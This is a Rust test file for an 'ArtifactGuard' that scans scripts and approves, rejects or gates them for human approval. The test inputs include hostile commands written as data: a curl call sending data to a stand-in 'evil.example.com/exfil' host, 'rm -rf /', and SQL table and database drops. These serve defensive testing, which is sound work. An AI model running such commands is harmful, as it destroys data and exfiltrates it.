use moss::moss::artifact_guard::{ArtifactGuard, ScanVerdict, MAX_SCRIPT_SIZE};

fn guard() -> ArtifactGuard {
    ArtifactGuard::new()
}

#[test]
fn clean_script_is_approved() {
    let verdict = guard().scan_code("echo hello");
    assert!(matches!(verdict, ScanVerdict::Approved));
}

#[test]
fn forbidden_import_is_rejected() {
    let verdict = guard().scan_code("import os\nprint(os.listdir('.'))");
    assert!(matches!(verdict, ScanVerdict::Rejected { .. }));
}

#[test]
fn forbidden_network_call_is_rejected() {
    let verdict = guard().scan_code("curl https://evil.example.com/exfil");
    assert!(matches!(verdict, ScanVerdict::Rejected { .. }));
}

#[test]
fn script_exceeding_size_limit_is_rejected() {
    let big = "x".repeat(MAX_SCRIPT_SIZE + 1);
    let verdict = guard().scan_code(&big);
    assert!(matches!(verdict, ScanVerdict::Rejected { .. }));
}

#[test]
fn blocklist_pattern_is_gated() {
    let verdict = guard().scan_code("stripe.charge(customer_id, amount)");
    assert!(matches!(verdict, ScanVerdict::Gated { .. }));
}

#[test]
fn destructive_db_pattern_is_gated() {
    let verdict = guard().scan_code("DROP TABLE users;");
    assert!(matches!(verdict, ScanVerdict::Gated { .. }));
}

#[test]
fn static_analysis_wins_before_hitl() {
    let verdict = guard().scan_code("import os\nDROP TABLE users;");
    assert!(matches!(verdict, ScanVerdict::Rejected { .. }));
}

#[test]
fn rejection_reason_names_the_first_forbidden_pattern() {
    match guard().scan_code("wget x; import sys") {
        ScanVerdict::Rejected { reason } => {
            assert_eq!(reason, "forbidden pattern in script: `import sys`")
        }
        _ => panic!("expected Rejected"),
    }
}

#[test]
fn size_rejection_reason_gives_both_sizes() {
    let big = "y".repeat(MAX_SCRIPT_SIZE + 5);
    match guard().scan_code(&big) {
        ScanVerdict::Rejected { reason } => {
            assert_eq!(reason, "script size 65541 exceeds limit 65536")
        }
        _ => panic!("expected Rejected"),
    }
}

#[test]
fn size_limit_counts_bytes_not_characters() {
    // 'é' is two bytes in UTF-8.
    let text = "é".repeat(MAX_SCRIPT_SIZE / 2 + 1);
    assert!(matches!(guard().scan_code(&text), ScanVerdict::Rejected { .. }));
    let fits = "é".repeat(MAX_SCRIPT_SIZE / 2);
    assert!(matches!(guard().scan_code(&fits), ScanVerdict::Approved));
}

#[test]
fn script_at_size_limit_is_approved() {
    let exact = "x".repeat(MAX_SCRIPT_SIZE);
    assert!(matches!(guard().scan_code(&exact), ScanVerdict::Approved));
}

#[test]
fn gate_reason_names_category_and_pattern() {
    match guard().scan_code("send via smtp.example.org") {
        ScanVerdict::Gated { reason } => assert_eq!(reason, "outbound: email: `smtp.`"),
        _ => panic!("expected Gated"),
    }
}

#[test]
fn first_gate_pattern_in_table_order_wins() {
    // "dd if=" is also forbidden, so use two approval-only patterns.
    match guard().scan_code("TRUNCATE TABLE t; paypal.payment(1)") {
        ScanVerdict::Gated { reason } => assert_eq!(reason, "destructive: database: `TRUNCATE TABLE`"),
        _ => panic!("expected Gated"),
    }
}

#[test]
fn stage_functions_report_independently() {
    let g = guard();
    assert!(g.static_analysis("echo ok").is_none());
    assert!(g.resource_bounds("echo ok").is_none());
    assert!(g.hitl_scan("echo ok").is_none());
    assert!(g.hitl_scan("DROP DATABASE x").unwrap().is_gated());
    assert!(g.static_analysis("rm -rf /").unwrap().is_rejected());
    assert!(g.scan_code("echo ok").is_approved());
    assert!(!g.scan_code("rm -rf /").is_approved());
}

#[test]
fn growing_a_script_never_lowers_its_verdict() {
    let g = guard();
    assert!(g.scan_code("echo hi").is_approved());
    assert!(g.scan_code("echo hi\nDROP TABLE t").is_gated());
    assert!(g.scan_code("echo hi\nDROP TABLE t\ncurl x").is_rejected());
}
